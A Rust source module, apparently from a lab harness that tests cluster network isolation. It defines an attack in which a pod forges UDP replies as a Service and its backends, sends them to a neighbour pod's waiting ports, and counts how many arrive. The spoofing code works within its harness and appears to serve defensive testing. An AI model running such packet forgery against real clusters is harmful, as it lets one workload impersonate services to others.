//! A pod replies in the place of a Service.

use std::net::SocketAddr;

use anyhow::Result;

use crate::attack::Attack;
use crate::frame::udp;
use crate::gain::Gain;
use crate::held::{Datagrams, FORGED};
use crate::launch::launch;
use crate::scene::Scene;
use crate::services::TARGET;

pub(super) const ATTACK: Attack = Attack {
    name: "replies as a Service",
    idea: "A pod sends datagrams as the backends, and as the Service, to the port at which a neighbour waits \
           for a reply of the Service. The neighbour would take them for it: its socket receives one.",
    needs_check: true,
    run,
};

fn run(scene: &Scene) -> Result<Gain> {
    let web = scene.services.web;
    let held = Datagrams::open(&scene.victim, web)?;
    let ways = [scene.to_gateway()?, scene.to_neighbour(&scene.victim)?];
    let mut frames = Vec::new();
    for port in held.ports()? {
        let client = SocketAddr::new(scene.victim.address()?, port);
        let mut servers = vec![web];
        for backend in [&scene.near_backend, &scene.far_backend] {
            servers.push(SocketAddr::new(backend.address()?, TARGET));
        }
        for server in servers {
            for macs in ways {
                frames.push(udp(macs, server, client, FORGED)?);
            }
        }
    }
    launch(scene, &scene.attacker, "eth0", &frames)?;
    Ok(Gain::of_datagrams(held.forged()?, frames.len()).and(held.gain()))
}
